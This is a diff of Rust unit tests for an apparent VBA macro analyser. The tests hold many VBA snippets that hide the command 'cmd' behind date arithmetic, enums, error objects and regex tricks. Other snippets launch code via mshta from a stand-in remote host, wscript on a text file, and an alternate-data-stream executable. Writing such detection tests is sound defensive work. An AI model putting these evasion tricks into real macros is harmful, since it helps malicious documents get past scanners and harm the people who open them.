@@ -8,6 +8,7 @@ fn around() -> Surroundings {
     let control = |name: &str, properties: &[(&'static str, &str)]| Control {
         owner: "UserForm1".into(),
         name: name.into(),
+        parent: String::new(),
         class: "Forms.Label.1".into(),
         properties: properties.iter().map(|(name, value)| (*name, (*value).to_owned())).collect(),
     };
@@ -175,6 +176,121 @@ fn ways_to_hide_a_text() {
         })
         .collect();
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn numbers_and_texts_out_of_dates() {
+    let table: &[(&str, &str)] = &[
+        ("Shell Chr(DateDiff(\"d\", #1/1/2020#, #4/9/2020#)) & \"md\"", "cmd"),
+        ("Dim d As Date\nd = DateSerial(2020, 12, 31)\nd = d + 1\nShell Chr(Month(d) + 98) & \"md\"", "cmd"),
+        ("Shell Chr(Day(DateAdd(\"m\", 1, DateSerial(2020, 1, 31))) + 70) & \"md\"", "cmd"),
+        ("Shell Chr(Year(CDate(\"2020/01/05\")) - 1921) & \"md\"", "cmd"),
+        ("Shell Chr(DateSerial(2020, 4, 9) - DateSerial(2020, 1, 1)) & \"md\"", "cmd"),
+        ("Shell Chr(95 + Weekday(#1/1/2020#)) & Chr(DatePart(\"y\", #4/18/2020#)) & \"d\"", "cmd"),
+        ("Shell Chr(Minute(TimeValue(\"10:39:00\")) + 60) & Chr(Hour(#1:00 PM#) + 96) & \"d\"", "cmd"),
+        (
+            "Shell \"a\" & Format(DateSerial(2020, 1, 9), \"yyyymmdd\") & Format(1234.5, \"#,##0.0\")",
+            "a202001091,234.5",
+        ),
+        // Both ways, and what the clock says is not known.
+        ("If Now > #1/1/2019# Then s = \"c\": Shell s & \"md\"", "cmd"),
+        ("If Now > #1/1/2039# Then s = \"c\": Shell s & \"md\"", "cmd"),
+        ("Shell \"cmd \" & Format(Now, \"yyyy\") & Year(Date) & #1/2/2020#", "cmd …"),
+        ("Shell Chr(Day(\"1/2/2020\") + 97) & \"md\"", "…md"),
+    ];
+    for (body, expected) in table {
+        assert_eq!(runs(body), [*expected], "{body}");
+    }
+}
+
+#[test]
+fn more_ways_to_hide_a_text() {
+    let class = "Enum E\na = 98\nb\nEnd Enum\nStatic Function N()\nDim i\ni = i + 33\nN = Chr(i)\nEnd Function\n";
+    let table: &[(&str, &str)] = &[
+        ("Shell Chr(E.b) & \"md\"", "cmd"),
+        ("N\nN\nShell N & \"md\"", "cmd"),
+        ("Shell StrConv(ChrW(&HFF43) & ChrW(&HFF4D) & ChrW(&HFF44), vbNarrow)", "cmd"),
+        ("On Error GoTo h\nErr.Raise 99, , \"md\"\nExit Sub\nh:\nShell Chr(Err.Number) & Err.Description", "cmd"),
+        ("Set d = New Scripting.Dictionary\nd.CompareMode = 1\nd(\"A\") = \"cmd\"\nShell d(\"a\")", "cmd"),
+        ("Set l = CreateObject(\"System.Collections.ArrayList\")\nl.Add \"cmd\"\nl.Add \"x\"\nShell l(0)", "cmd"),
+        (
+            "Set r = CreateObject(\"VBScript.RegExp\")\nr.Pattern = \"[xy]\"\nr.Global = True\nShell r.Replace(\"cxmyd\", \"\")",
+            "cmd",
+        ),
+        ("Shell Chr(WorksheetFunction.Sum(90, 9)) & Application.Text(\"md\", \"@\")", "cmd"),
+    ];
+    for (body, expected) in table {
+        assert_eq!(details(ActionKind::Run, &format!("{class}{}", opened(body))), [*expected], "{body}");
+    }
+}
+
+#[test]
+fn what_is_only_shown_is_no_program() {
+    let shell = |command: &str| format!("CreateObject(\"WScript.Shell\").Run {command}, 1");
+    let write = "Open ThisWorkbook.Path & \"\\a.exe\" For Output As #1\n".replace("\\\\", "\\");
+    for command in [
+        "\"\"\"\" & ThisWorkbook.Path & \"\\my book.pdf\"\"\"",
+        "\"https://intra.example/help\"",
+        "\"C:\\Program Files\\Edge\\msedge.exe https://intra.example/help\"",
+        "\"explorer.exe \" & ThisWorkbook.Path",
+        "\"explorer.exe /select,\" & ThisWorkbook.Path & \"\\a.xlsx\"",
+        "\"explorer C:\\out\\\"",
+    ] {
+        let body = format!("{write}{}", shell(&command.replace("\\\\", "\\")));
+        assert!(runs(&body).is_empty(), "{command} {:?}", runs(&body));
+    }
+    for command in [
+        "\"%COMSPEC% /c C:\\a.txt\"",
+        "Range(\"Z9\").Value & \".pdf\"",
+        "\"C:\\Windows\\System32\\wscript.exe //e:vbscript C:\\a.txt\"",
+        "\"C:\\Windows\\System32\\mshta \\\\a.example\\x.txt\"",
+        "\"msedge.exe --load-extension=C:\\x https://a.example/\"",
+        "\"msedge.exe https://a.example/a.exe\"",
+        "\"explorer.exe C:\\out\\a.exe\"",
+        "\"explorer.exe \" & Range(\"Z9\").Value",
+        "\"C:\\a.csv\"",
+        "\"C:\\a.txt:b.exe\"",
+    ] {
+        let body = format!("{write}{}", shell(&command.replace("\\\\", "\\")));
+        assert_eq!(runs(&body).len(), 1, "{command}");
+    }
+    let declare = "Declare Function SE Lib \"shell32\" Alias \"ShellExecuteA\" (a, b, c, d, e, f)\n";
+    let of = |call: &str| details(ActionKind::Run, &format!("{declare}{}", opened(call)));
+    assert!(of("SE 0, \"open\", ThisWorkbook.Path & \"\\a.pdf\", \"\", \"\", 1").is_empty());
+    assert_eq!(of("SE 0, \"open\", \"bash\", \"C:/a.txt\", \"\", 1"), ["bash C:/a.txt"]);
+}
+
+/// What offices do when a book is opened.
+#[test]
+fn the_morning_of_an_office() {
+    let table = [
+        "Set w = CreateObject(\"WScript.Shell\")\nw.Popup \"更新\", 3\nRange(\"A1\") = w.SpecialFolders(\"Desktop\")",
+        "Set s = CreateObject(\"WScript.Shell\").CreateShortcut(CreateObject(\"WScript.Shell\").SpecialFolders(\"Desktop\") & \"\\a.lnk\")\ns.TargetPath = ThisWorkbook.FullName\ns.Save",
+        "For Each p In GetObject(\"winmgmts:\").ExecQuery(\"Select * from Win32_Process\")\nn = n + 1\nNext",
+        "Set d = CreateObject(\"Shell.Application\").BrowseForFolder(0, \"選択\", 0)\nCreateObject(\"Shell.Application\").Open d.Self.Path",
+        "Application.Run \"PERSONAL.XLSB!初期化\"\nApplication.Run \"'\" & ThisWorkbook.Path & \"\\共通.xlsm'!ログ\"",
+        "v = ExecuteExcel4Macro(\"'C:\\[b.xlsx]S'!R1C1\")\nExecuteExcel4Macro \"PAGE.SETUP(,,)\"",
+        "ActiveDocument.AttachedTemplate = \"\\\\fs01\\templates\\letter.dotm\"",
+        "AddIns.Add \"\\\\fs01\\templates\\letter.dotm\", True\nApplication.RegisterXLL ThisWorkbook.Path & \"\\a.xll\"",
+        "Set c = CreateObject(\"ADODB.Connection\")\nc.Execute \"SELECT 社員, Seashell(1) FROM t\"",
+        "Application.OrganizerCopy a, b, \"見出し\", wdOrganizerObjectStyles",
+        "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.Load ThisWorkbook.Path & \"\\a.xsl\"\nMsgBox y.transformNode(x)",
+        "ActiveSheet.Hyperlinks.Add(Range(\"A1\"), \"https://www.example/\").Follow",
+        "Workbooks.Open \"\\\\fs01\\a.xlsx\"\nShell \"explorer.exe \\\\fs01\\share\", 1",
+    ];
+    for body in table {
+        let grave: Vec<Action> =
+            all(&[("M", ModuleKind::Standard, &opened(body))]).into_iter().filter(|a| a.kind.is_grave()).collect();
+        assert!(grave.is_empty(), "{body} {grave:?}");
+    }
+}
+
+#[test]
+fn a_version_hides_no_program() {
+    let hidden = |name: &str| details(ActionKind::Hidden, &opened(&format!("Set o = CreateObject({name})"))).len();
+    assert_eq!(hidden("\"Excel.Application.\" & Int(Val(Application.Version))"), 0);
+    assert_eq!(hidden("\"Excel.Applicatio\" & Range(\"Z9\")"), 1);
+    assert_eq!(hidden("Range(\"Z9\") & \".Application.\""), 1);
 }
 
 const BASE64: &str = "Function Decode(ByVal s As String) As String\n\
@@ -449,6 +565,30 @@ fn an_object_that_goes_knows_what_it_was_given() {
     let class = "Public Line\nPrivate Sub Class_Terminate()\nShell Line\nEnd Sub";
     let found = all(&[("ThisWorkbook", ModuleKind::Document, book), ("Killer", ModuleKind::Class, class)]);
     assert!(found.iter().any(|action| action.detail == "calc" && action.reached_by.is_some()), "{found:?}");
+}
+
+#[test]
+fn controls_in_a_frame_are_counted_from_0() {
+    let control = |name: &str, parent: &str, tag: &str| Control {
+        owner: "F".into(),
+        name: name.into(),
+        parent: parent.into(),
+        properties: [("tag", tag.to_owned())].into(),
+        ..Control::default()
+    };
+    let around = Surroundings {
+        controls: vec![
+            control("Frame1", "", "a"),
+            control("L1", "", "b"),
+            control("L2", "Frame1", "c"),
+            control("L3", "Frame1", "d"),
+        ],
+        ..Surroundings::default()
+    };
+    let source = opened("Shell F.Frame1.Controls(0).Tag & F.Frame1.Controls(\"L3\").Tag & F.Controls(1).Tag");
+    let found = super::tests::behaviour(&[("M", ModuleKind::Standard, &source)], &around);
+    let run = found.actions.iter().find(|action| action.kind == ActionKind::Run).unwrap();
+    assert_eq!(run.detail, "cdb");
 }
 
 #[test]
